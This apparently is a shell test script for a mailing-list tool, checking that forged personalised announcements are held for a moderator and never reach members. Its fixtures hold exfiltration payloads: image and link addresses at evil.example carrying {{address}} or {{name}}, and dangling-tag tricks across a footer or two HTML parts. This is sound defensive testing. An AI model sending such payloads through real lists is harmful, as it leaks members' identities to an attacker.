#!/bin/bash
# A personalised announcement cannot carry members' values to its writer.
# The announcer is known by From alone, which anyone can forge.  A post
# from a stranger, written in the announcer's name, that puts {{address}}
# into an image's address (fetched when the mail is opened) or {{name}}
# into a link is held for the moderator with that reason, and no member
# gets a copy; the preview says so; the poster named in From is told.  So
# is a post with no placeholder of its own that leaves an image's address
# open for the list's personal footer to land in, and a post whose first
# HTML part leaves one open for the second.  A real invitation
# waits for the moderator too, as every personalised post does by
# default, and goes out when approved; with personalize_moderate=no it
# goes out at once, while a forged one is still held.  A moderator who
# approves a held post decides, and it goes out.
source "$(dirname "$0")/lib.sh"
testbed < /dev/null
herald list create invite@lists.example.org --no-prefix >/dev/null
herald list set invite posting=announce personalize=yes
herald sender accept invite careers@example.org >/dev/null
herald moderator add invite mod@example.org >/dev/null
printf '%s\n' 'address,name,organisation' \
    'anna@example.com,Anna Tanaka,Example Corp.' \
    'bernd@example.net,Bernd Berg,Berg & Söhne' |
    herald member import invite --csv >/dev/null
echo '[{"address": "anna@example.com"}, {"address": "bernd@example.net"}]' \
    > "$T/members.json"
printf 'Subject: -\n\n-- \n{{name}}, to stop these, write to %s\n' \
    '{{unsubscribe_address}}' | herald list template invite footer --set -
herald list set invite footer=yes

# held_for TEXT: the newest held post is held for a reason with TEXT.
held_for() {
	herald held show "$(held_ids | tail -n 1)" | grep '^reason' |
	    grep -qF "$1" || fail "the newest held post is not held for '$1'"
}

# forged FILE CONTENT-TYPE BODY: an announcement in the careers office's
# name, as a stranger would send it.
forged() {
	cat > "$1" <<MSG
From: Career Office <careers@example.org>
To: invite@lists.example.org
Subject: Career day for {{organisation}}
Message-ID: <$(basename "$1")@evil.example>
MIME-Version: 1.0
Content-Type: $2; charset=utf-8

$3
MSG
}

echo "an image whose address holds {{address}}: held, nobody gets a copy"
forged "$T/image.eml" text/html '<p>Dear {{name}},</p>
<img src="https://evil.example/p.gif?who={{address}}">'
herald post preview invite "$T/image.eml" --member anna@example.com \
    2> "$T/preview" > /dev/null
grep -q 'would be held: the placeholder {{address}} stands inside HTML' \
    "$T/preview" || fail "preview: $(head -n 1 "$T/preview")"
note "ok: the preview says it would be held"
submit attacker@evil.example invite@lists.example.org "$T/image.eml"
wait_held 1
wait_delivered 2
check_py not_delivered "$T" "$T/members.json"
check_py notices "$T" mod@example.org 1 "held"
check_py notices "$T" careers@example.org 1 "awaits a moderator"
held_for 'placeholder {{address}} stands inside HTML markup'
grep -l 'anna@\|bernd@\|Tanaka\|Berg' "$T"/mail/all/new/* &&
    fail "a notice names a member"
note "ok: no member got it, no notice names one"
clear_mail

echo "a link that carries {{name}}, in plain text: held as well"
forged "$T/link.eml" text/plain \
    'Dear {{name}}, register at https://evil.example/r?who={{name}}'
submit attacker@evil.example invite@lists.example.org "$T/link.eml"
wait_held 2
wait_delivered 1
check_py not_delivered "$T" "$T/members.json"
held_for 'placeholder {{name}} stands in a link'
note "ok: held, and the moderator is told why"
clear_mail

echo "an image left open for the footer's placeholders: held"
forged "$T/open.eml" text/html '<p>News for you.</p>
<img src="https://evil.example/p.gif?f='
sed -i 's/^Subject: .*/Subject: News/' "$T/open.eml"
submit attacker@evil.example invite@lists.example.org "$T/open.eml"
wait_held 3
wait_delivered 1
check_py not_delivered "$T" "$T/members.json"
held_for 'placeholder {{name}} stands inside HTML markup'
note "ok: held, though the post itself has no placeholder"
clear_mail

echo "two HTML parts, the first leaving an image open for the second: held"
cat > "$T/parts.eml" <<'MSG'
From: Career Office <careers@example.org>
To: invite@lists.example.org
Subject: Welcome
Message-ID: <parts@evil.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/html; charset=utf-8

<p>Welcome!</p><img width=1 height=1 src='https://evil.example/p.gif?a=
--b
Content-Type: text/html; charset=utf-8

<p>Dear {{name}}, your address is {{address}}.</p><i>'></i>
--b--
MSG
submit attacker@evil.example invite@lists.example.org "$T/parts.eml"
wait_held 4
wait_delivered 1
check_py not_delivered "$T" "$T/members.json"
held_for 'placeholder {{name}} stands inside HTML markup'
note "ok: held, as a client that shows both parts in one page reads them"
clear_mail

echo "the real invitation: held until the moderator approves it"
forged "$T/real.eml" text/html '<p>Dear {{name}},</p>
<p>{{organisation}} is welcome:
<a href="https://example.org/career-day">register</a>.</p>'
submit careers@example.org invite@lists.example.org "$T/real.eml"
wait_held 5
wait_delivered 1
check_py not_delivered "$T" "$T/members.json"
held_for 'a personalised post waits for a moderator'
clear_mail
herald held approve "$(held_ids | tail -n 1)" >/dev/null
herald deliver --quiet
wait_delivered 2
for who in "anna@example.com:Anna Tanaka" "bernd@example.net:Bernd Berg"; do
	f=$(mailbox "${who%%:*}")
	[ -n "$f" ] || fail "${who%%:*} got no copy"
	grep -q "Dear ${who#*:}" "$f" || fail "${who%%:*}: not its own name"
done
note "ok: approved, each member got it with their own name"
clear_mail

echo "personalize_moderate=no: the invitation goes out, a forgery does not"
herald list set invite personalize_moderate=no
sed 's/^Message-ID: .*/Message-ID: <real2@example.org>/' "$T/real.eml" \
    > "$T/real2.eml"
submit careers@example.org invite@lists.example.org "$T/real2.eml"
wait_delivered 2
[ -n "$(mailbox bernd@example.net)" ] || fail "bernd got no copy"
clear_mail
sed 's/^Message-ID: .*/Message-ID: <image2@evil.example>/' \
    "$T/image.eml" > "$T/image2.eml"
submit attacker@evil.example invite@lists.example.org "$T/image2.eml"
wait_held 5
wait_delivered 1
check_py not_delivered "$T" "$T/members.json"
held_for 'placeholder {{address}} stands inside HTML markup'
note "ok: the invitation went out at once, the forgery was held"
clear_mail

echo "the moderator approves the first held post: it goes out"
herald held approve "$(held_ids | head -n 1)" >/dev/null
herald deliver --quiet
wait_delivered 2
[ -n "$(mailbox anna@example.com)" ] || fail "no copy after approval"
note "ok: sent once a moderator decided"
echo "PASS"
